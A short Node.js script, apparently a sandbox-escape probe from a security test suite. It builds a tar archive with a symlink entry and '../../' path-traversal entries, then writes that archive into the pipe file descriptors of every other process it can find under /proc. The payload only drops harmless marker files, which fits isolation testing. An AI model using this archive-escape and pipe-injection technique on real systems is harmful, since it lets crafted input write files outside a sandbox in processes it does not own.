import { constants, openSync, readdirSync, readlinkSync, writeSync } from 'node:fs'
import { attempt, leave } from './page.mjs'

function header(name, size, kind, target) {
  const block = Buffer.alloc(512)
  block.write(name, 0)
  block.write('0000777\0' + '0000000\0'.repeat(2), 100)
  block.write(size.toString(8).padStart(11, '0') + '\0' + '00000000000\0' + '        ' + kind + target, 124)
  block.write('ustar\x0000', 257)
  block.write(block.reduce((sum, byte) => sum + byte, 0).toString(8).padStart(6, '0') + '\0 ', 148)
  return block
}
const body = Buffer.alloc(512, 'escaped')
const archive = [
  header('out', 0, '2', 'WATCHED'), header('out/cookie-was-here', 512, '0', ''), body,
  header('../../cookie-was-here', 512, '0', ''), body, header('WATCHED/cookie-was-here', 512, '0', ''), body,
]
for (const id of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)) {
  let open = []
  await attempt(`files of ${id}`, () => { open = readdirSync(`/proc/${id}/fd`); return open })
  for (const number of open) {
    const path = `/proc/${id}/fd/${number}`
    await attempt(`write to ${path}`, () => {
      if (!readlinkSync(path).startsWith('pipe:')) throw new Error('no pipe')
      const file = openSync(path, constants.O_WRONLY | constants.O_NONBLOCK)
      return writeSync(file, Buffer.concat(archive))
    })
  }
}
leave()
